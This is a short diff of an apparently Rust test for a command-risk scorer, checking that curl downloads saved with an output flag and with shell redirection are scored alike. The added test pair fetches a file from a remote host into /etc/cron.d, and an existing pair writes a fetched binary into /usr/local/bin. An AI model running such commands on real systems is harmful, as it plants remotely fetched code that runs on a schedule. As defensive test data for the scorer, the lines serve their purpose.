@@ -5942,6 +5942,10 @@ fn download_output_files_are_written_targets() {
             "curl --output /usr/local/bin/yq https://x.io/yq",
             "curl https://x.io/yq > /usr/local/bin/yq",
         ),
+        (
+            "curl -fsSLo/etc/cron.d/x https://x.io/t",
+            "curl -fsSL https://x.io/t > /etc/cron.d/x",
+        ),
     ] {
         let (a, b) = (e.score_str(saved), e.score_str(redirected));
         assert_eq!(a.level, b.level, "{saved} / {redirected}");
